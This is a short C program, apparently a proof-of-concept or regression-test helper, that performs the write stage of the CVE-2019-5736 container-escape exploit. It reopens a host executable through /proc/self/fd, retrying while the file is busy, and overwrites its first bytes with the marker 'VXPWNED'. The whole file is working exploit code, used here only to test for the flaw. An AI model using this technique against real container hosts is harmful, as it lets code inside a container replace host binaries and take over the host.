// vx-exe-writer FD: the second half of the CVE-2019-5736 attack of
// vx-preload-exe.c.  FD is an O_PATH descriptor of the file of a program
// run in the server; once that program and its kin are gone (while they
// run, the file is busy: ETXTBSY), reopen it through /proc/self/fd for
// writing and write over its first bytes.  Records in the server's
// /tmp/vx-exe-writer.result "wrote", or the errno name of the step that
// failed ("open E..." or "write E...").
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static void record(const char *step, int err)
{
	FILE *f = fopen("/tmp/vx-exe-writer.result", "w");

	if (!f)
		return;
	if (err)
		fprintf(f, "%s %s\n", step, strerrorname_np(err));
	else
		fprintf(f, "wrote\n");
	fclose(f);
}

int main(int argc, char **argv)
{
	const struct timespec pause = { 0, 50 * 1000 * 1000 };
	char path[64];
	int fd = -1, i;

	if (argc != 2)
		return 2;
	snprintf(path, sizeof(path), "/proc/self/fd/%s", argv[1]);
	for (i = 0; i < 400; i++) {
		fd = open(path, O_WRONLY);
		if (fd >= 0 || errno != ETXTBSY)
			break;
		nanosleep(&pause, NULL);
	}
	if (fd < 0) {
		record("open", errno);
		return 1;
	}
	if (pwrite(fd, "VXPWNED", 7, 0) != 7) {
		record("write", errno);
		return 1;
	}
	record("wrote", 0);
	return 0;
}
